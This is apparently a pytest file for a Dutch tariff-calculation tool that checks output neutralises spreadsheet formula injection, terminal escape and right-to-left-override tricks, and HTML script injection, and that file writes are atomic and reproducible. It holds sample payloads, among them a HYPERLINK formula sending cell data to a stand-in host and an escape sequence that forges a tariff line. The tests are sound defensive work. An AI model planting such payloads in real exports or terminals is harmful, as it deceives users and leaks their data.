"""Issue 18, class 3 and 5: output is inert, and every output is written atomically and reproducibly.

Each attack is built here: provider text that a spreadsheet would run as a formula, an escape
sequence, carriage return or right-to-left override that a terminal would obey, HTML, eight
processes writing one workbook, and the same command run twice.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

import tarieven
from tarieven.csvformaat import csv_tekst, neutraal
from tarieven.parameterbestanden import params_pad

from ..robuustheid._hulp import opdracht
from ._hulp import draai, fout, inzending

PEIL = "2027-01-01"
FORMULES = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
"""What a spreadsheet would run (OWASP's list of first characters)."""
GETALLEN = ["-12", "-12.5", "-12,5", "+3", "-1e-05", "+2.5E3"]
"""Text that starts like a formula but is a number: left as it is."""


def _cellen(tekst: str, formaat: str) -> list[list[str]]:
    tekst = tekst.removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(tekst, newline=""), delimiter=";" if formaat == "csv-nl" else ","))


def _geen_formule(rijen: list[list[str]]) -> None:
    """No cell starts like a formula unless it is a number."""
    for rij in rijen:
        for cel in rij:
            assert not cel.startswith(("=", "+", "-", "@", "\t", "\r")) or neutraal(cel) == cel, cel


@pytest.mark.parametrize("tekst", FORMULES)
def test_neutraal_volgens_owasp(tekst: str) -> None:
    assert neutraal(tekst) == "'" + tekst
    for formaat in ("csv", "csv-nl"):
        assert _cellen(csv_tekst([["kop"], [tekst]], formaat), formaat)[1] == ["'" + tekst]


@pytest.mark.parametrize("tekst", GETALLEN)
def test_getal_blijft_een_getal(tekst: str) -> None:
    assert neutraal(tekst) == tekst
    assert neutraal(-12.5) == -12.5


# -- every command that writes CSV, with provider text in it ------------------------------------


@pytest.fixture
def eigen_map(tmp_path: Path) -> Path:
    """A user's own parameter folder with a product whose name is a formula."""
    map_ = tmp_path / "params" / "producten"
    map_.mkdir(parents=True)
    tekst = (params_pad() / "producten" / "41A22.toml").read_text(encoding="utf-8")
    regels = [r for r in tekst.splitlines() if not r.startswith("naam =")]
    i = regels.index("[product]")
    regels.insert(i + 1, f"naam = {json.dumps(FORMULES[0])}")
    (map_ / "41A22.toml").write_text("\n".join(regels) + "\n", encoding="utf-8")
    return map_.parent


@pytest.mark.parametrize("formaat", ["csv", "csv-nl"])
def test_producten_csv(eigen_map: Path, formaat: str, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    from tarieven.cli import main

    assert main(["producten", "--peildatum", PEIL, "--parameters", str(eigen_map), "--formaat", formaat]) == 0
    rijen = _cellen(capsysbinary.readouterr().out.decode("utf-8"), formaat)
    assert ["'" + FORMULES[0]] == [c for r in rijen for c in r if "HYPERLINK" in c]
    _geen_formule(rijen)


@pytest.mark.parametrize("formaat", ["csv", "csv-nl"])
def test_test_en_vergelijk_csv(tmp_path: Path, formaat: str, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    from tarieven.cli import main

    scenario = inzending(
        tmp_path,
        "eigen.toml",
        f"""
        basis = "41A22"
        peildatum = {PEIL}
        [functies.mbo]
        naam = {json.dumps(FORMULES[1])}
        maandsalaris = 3400
        """,
    )
    controle = inzending(
        tmp_path,
        "controle.toml",
        f"""
        [[geval]]
        naam = {json.dumps(FORMULES[3])}
        scenario = "{scenario.as_posix()}"
        verwacht = {{ tarief_per_client = 1.0 }}
        """,
    )
    assert main(["test", str(controle), "--formaat", formaat]) == 1  # the case fails: 1.0 is not the tariff
    rijen = _cellen(capsysbinary.readouterr().out.decode("utf-8"), formaat)
    assert "'" + FORMULES[3] in [c for r in rijen for c in r]
    _geen_formule(rijen)
    assert main(["vergelijk", str(scenario), "--formaat", formaat]) == 0
    rijen = _cellen(capsysbinary.readouterr().out.decode("utf-8"), formaat)
    assert "'" + FORMULES[1] in [c for r in rijen for c in r]
    _geen_formule(rijen)


# -- text for a terminal -------------------------------------------------------------------------

VERVALST = "\x1b[2K\rTarief per cliënt per dagdeel:             € 1,00\n\u202eeniet"
"""A description that, printed raw, erases its line, forges a tariff line and hides text."""


def test_beschrijving_bereikt_de_terminal_niet_rauw(tmp_path: Path) -> None:
    pad = inzending(
        tmp_path, "eigen.toml", f'basis = "41A22"\npeildatum = {PEIL}\nbeschrijving = {json.dumps(VERVALST)}\n'
    )
    for argv in (("bereken", str(pad)), ("uitleg", str(pad)), ("vergelijk", str(pad))):
        r = draai(*argv, cwd=tmp_path)
        assert r.returncode == 0, r.stderr
        for teken in ("\x1b", "\r", "\u202e"):
            assert teken not in r.stdout + r.stderr
        assert "\\u001b[2K\\u000dTarief" in r.stdout
        tarieflijnen = [regel for regel in r.stdout.splitlines() if regel.startswith("Tarief per cliënt per dagdeel")]
        assert len(tarieflijnen) <= 1
        assert not any("€ 1,00" in regel for regel in tarieflijnen)  # the forged line is no line of its own
    r = draai("bereken", str(pad), "--formaat", "json", cwd=tmp_path)
    assert "\u202e" not in r.stdout
    assert json.loads(r.stdout)["eigen_invoer"]["beschrijving"] == VERVALST  # the data kept whole


def test_bestandsnaam_in_een_melding(tmp_path: Path) -> None:
    pad = inzending(tmp_path, "x\x1b]0;titel\x07\u202e.toml", 'basis = "41A22"\n[product]\ngroepsgrootte = -1\n')
    bericht = fout(draai("bereken", str(pad), cwd=tmp_path))
    for teken in ("\x1b", "\x07", "\u202e"):
        assert teken not in bericht
    assert "x\\u001b]0;titel\\u0007\\u202e.toml" in bericht


def test_sleutel_uit_een_bestand_in_een_melding(tmp_path: Path) -> None:
    pad = inzending(tmp_path, "s.json", json.dumps({"product": {"groep\nTarief: € 1,00\x1b[8m": 8}}))
    bericht = fout(draai("bereken", str(pad), cwd=tmp_path))
    assert "\x1b" not in bericht
    assert len(bericht.strip().splitlines()) == 1  # no forged second line


def test_html_escapet(tmp_path: Path) -> None:
    u = tarieven.bereken({"basis": "41A22", "peildatum": PEIL, "beschrijving": "<script>alert(1)</script>"})
    html = u._repr_html_()
    assert "<script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_werkmap_schrijft_tekst_als_tekst(tmp_path: Path) -> None:
    d = {"basis": "41A22", "peildatum": PEIL, "beschrijving": FORMULES[0], "functies": {"mbo": {"naam": "=1+1"}}}
    pad = tarieven.bereken(d).naar_excel(tmp_path / "u.xlsx")
    wb = openpyxl.load_workbook(pad)
    gevonden = []
    for ws in wb.worksheets:
        for rij in ws.iter_rows():
            for cel in rij:
                if cel.value in (FORMULES[0], "=1+1") or (isinstance(cel.value, str) and "HYPERLINK" in cel.value):
                    gevonden.append((ws.title, cel.coordinate, cel.data_type))
    assert gevonden
    assert all(soort == "s" for *_, soort in gevonden), gevonden


# -- atomic and reproducible writes ----------------------------------------------------------------

_ACHT = """
import sys
from tarieven.cli import main
sys.exit(main(["bereken", "41A22", "--peildatum", "2027-01-01", "--excel", sys.argv[1]]))
"""


def test_acht_processen_schrijven_een_hele_werkmap(tmp_path: Path) -> None:
    doel = tmp_path / "zelfde.xlsx"
    env = {**os.environ, "OPENBLAS_NUM_THREADS": "1"}
    processen = [
        subprocess.Popen(
            [sys.executable, "-c", _ACHT, str(doel)],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(8)
    ]
    for p in processen:
        _, err = p.communicate(timeout=300)
        assert p.returncode == 0, err
    with zipfile.ZipFile(doel) as z:
        assert z.testzip() is None
    assert "tarief_per_client" in openpyxl.load_workbook(doel).defined_names
    assert sorted(p.name for p in tmp_path.iterdir()) == ["zelfde.xlsx"]  # no temporary file left
    alleen = tmp_path / "alleen.xlsx"
    assert subprocess.run([sys.executable, "-c", _ACHT, str(alleen)], env=env, capture_output=True).returncode == 0
    assert alleen.read_bytes() == doel.read_bytes()  # and it is the one workbook every process wrote


def test_koppeling_op_het_doel_wordt_vervangen_niet_gevolgd(tmp_path: Path) -> None:
    geheim = tmp_path / "geheim.txt"
    geheim.write_text("niet overschrijven", encoding="utf-8")
    doel = tmp_path / "uit.xlsx"
    doel.symlink_to(geheim)
    tarieven.bereken("41A22", PEIL).naar_excel(doel)
    assert geheim.read_text(encoding="utf-8") == "niet overschrijven"
    assert not doel.is_symlink()
    assert zipfile.is_zipfile(doel)


def _werkmappen(map_: Path, bron: Path) -> dict[str, bytes]:
    """Every workbook and CSV the package writes, from the same inputs, into ``map_``."""
    from tarieven.cli import main

    map_.mkdir()
    sjabloon = tarieven.schrijf_sjabloon("41A22", map_ / "sjabloon.xlsx", PEIL)
    assert main(["bereken", "41A22", "--peildatum", PEIL, "--excel", str(map_ / "bereken.xlsx")]) == 0
    argv = [
        "normeer",
        str(bron),
        "--peildatum",
        PEIL,
        "--excel",
        str(map_ / "normeer.xlsx"),
        "--sleutel",
        str(map_ / "sleutel.csv"),
    ]
    assert main(argv) == 0
    return {p.name: p.read_bytes() for p in sorted([sjabloon, *map_.iterdir()])}


def test_zelfde_invoer_zelfde_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bron = tmp_path / "inzendingen"
    shutil.copytree(Path(tarieven.__file__).parents[1] / "voorbeelden" / "normering" / "inzendingen", bron)
    inzending(bron, "naam.toml", 'basis = "41A22"\n[aanbieder]\nnaam = "Zorg & Co"\n')  # without volume
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    eerst = _werkmappen(tmp_path / "a", bron)
    tweede = _werkmappen(tmp_path / "b", bron)
    assert set(eerst) == {"sjabloon.xlsx", "bereken.xlsx", "normeer.xlsx", "sleutel.csv"}
    assert eerst == tweede
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")  # 2026-01-01T00:00:00Z
    derde = _werkmappen(tmp_path / "c", bron)
    for naam in ("sjabloon.xlsx", "bereken.xlsx", "normeer.xlsx"):
        assert derde[naam] != eerst[naam]
        with zipfile.ZipFile(io.BytesIO(derde[naam])) as z:
            assert (
                '<dcterms:created xsi:type="dcterms:W3CDTF">2026-01-01T00:00:00Z'
                in z.read("docProps/core.xml").decode()
            )


def test_ongeldige_source_date_epoch(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "gisteren")
    code, _, err = opdracht(capsys, "bereken", "41A22", "--peildatum", PEIL, "--excel", str(tmp_path / "u.xlsx"))
    assert code == 2
    assert "SOURCE_DATE_EPOCH = 'gisteren': verwacht een geheel aantal seconden sinds 1970-01-01 (UTC)" in err
    assert not list(tmp_path.iterdir())


def test_sleutel_op_een_bestaand_bestand(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bron = Path(tarieven.__file__).parents[1] / "voorbeelden" / "normering" / "inzendingen"
    bestaand = tmp_path / "sleutel.csv"
    bestaand.write_text("van de regio\n", encoding="utf-8")
    code, _, err = opdracht(capsys, "normeer", str(bron), "--sleutel", str(bestaand))
    assert code == 2, err
    assert f"--sleutel = '{bestaand}': verwacht een nieuw bestand; dit bestaat al" in err
    assert "Traceback" not in err
    assert bestaand.read_text(encoding="utf-8") == "van de regio\n"
    nieuw = tmp_path / "nieuw.csv"
    assert opdracht(capsys, "normeer", str(bron), "--sleutel", str(nieuw))[0] == 0
    assert nieuw.stat().st_mode & 0o077 == 0  # the key of a study: readable by the user only
